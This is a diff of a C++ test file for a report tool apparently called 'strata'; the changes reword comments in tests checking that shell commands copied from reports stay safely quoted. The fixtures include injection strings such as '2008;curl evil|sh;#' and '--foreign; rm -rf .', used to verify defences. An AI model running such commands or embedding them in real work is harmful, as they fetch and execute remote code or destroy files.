@@ -236,7 +236,7 @@ BOOST_AUTO_TEST_CASE(commands_to_copy_are_quoted_and_links_lead_to_pages_alone) 
     BOOST_TEST(contains(text, "strata compare '--drafts=2008,modern+fragment=svg desc' '"), text);
     BOOST_TEST(
         (contains(text, "it&#39;\\&#39;&#39;s $(a) page.html&#39;") || contains(text, "it'\\''s $(a) page.html'")));
-    // A result may come from anybody, so commands in the report must be safe.
+    // A result may come from anyone, so the commands in a report must be safe.
     std::string edited = survey({page});
     for (std::size_t at = 0; (at = edited.find("2008", at)) != std::string::npos; at += 20)
         edited.replace(at, 4, "2008;curl evil|sh;#");
@@ -267,8 +267,8 @@ BOOST_AUTO_TEST_CASE(the_command_that_shows_an_example_keeps_the_surveys_options
     for (const std::string options :
          {"--scripting=off", "'--fragment=svg svg' --foreign", "'--fragment=it'\\''s' --feedback=none"})
         BOOST_TEST(command(options) == begin + " " + options + " -- '-a b.html'");
-    // A result of an older version has words, and a result of a stranger may have anything. Neither becomes part of the
-    // command.
+    // Results of older versions describe the options in words, and a stranger's result may contain anything. Such text
+    // must not become part of the command.
     for (const std::string words :
          {"scripting off", "--foreign; rm -rf .", "--fragment=$(x)", "--a 'b'", "--a  --b", "'--a"})
         BOOST_TEST(command(words) == begin + " -- '-a b.html' # " + words);
@@ -385,7 +385,7 @@ BOOST_AUTO_TEST_CASE(a_list_may_have_any_name_and_be_packed) {
     const auto empty = strata::report::parsed_json(
         survey({"--archives=" + folder.path(""), folder.write("empty.csv", "crawl.warc.gz,0,0\n")}));
     BOOST_TEST(empty.at("skipped").at("broken coordinates") == 1);
-    // A message about a damaged list says that the list is damaged.
+    // The survey reports a damaged list as damaged, and reads the part before the damage.
     std::string many;
     for (int i = 0; i < 20000; ++i) many += "crawl.warc.gz,0," + size + "\n";
     const std::string packed = deflated(many);
